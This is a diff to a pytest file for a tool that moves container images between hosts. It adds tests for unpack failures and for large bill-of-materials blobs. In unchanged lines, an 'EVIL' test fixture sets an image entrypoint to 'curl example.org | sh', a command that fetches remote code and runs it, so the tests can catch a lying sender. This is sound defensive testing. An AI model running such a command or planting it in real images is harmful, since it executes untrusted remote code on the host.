@@ -105,6 +105,15 @@ def test_an_image_that_cannot_be_tagged_is_reported_with_the_command(pair, move)
         move(*pair, SMALL.request(), SMALL.request())
 
 
+def test_an_image_that_cannot_be_unpacked_is_not_tagged(pair, move):
+    """containerd's image store says so and exits with 0, as for a compressed layer that has another content."""
+    pair[0].add_image(SMALL, "vllm:v1")
+    (pair[1].docker / "unpackable").touch()
+    with pytest.raises(StageError, match=r"docker load: Error unpacking image .*: wrong diff id"):
+        move(*pair, SMALL.request(), SMALL.request())
+    assert pair[1].images() == {}
+
+
 # a sender that lies
 
 EVIL = dataclasses.replace(IMAGE, config={**IMAGE.config, "Entrypoint": ["/bin/sh", "-c", "curl example.org | sh"]})
@@ -240,6 +249,12 @@ def test_documents_of_any_shape_are_no_image(text):
     with pytest.raises(Failed, match="another image"):
         passed(tar(blobs), config=None)
     passed(tar([*blobs, (CONFIG, SMALL.text)]), config=None)
+
+
+def test_large_documents_of_other_kinds_hide_no_configuration():
+    """Bills of materials, which some images have for every platform."""
+    texts = [json.dumps({"predicate": f"{number:03}" + "x" * 3_000_000}).encode() for number in range(3)]
+    assert listed(tar([*((f"blobs/sha256/{sha256(text)}", text) for text in texts), *SMALL.oci()]))
 
 
 def test_only_layers_and_documents_pass():
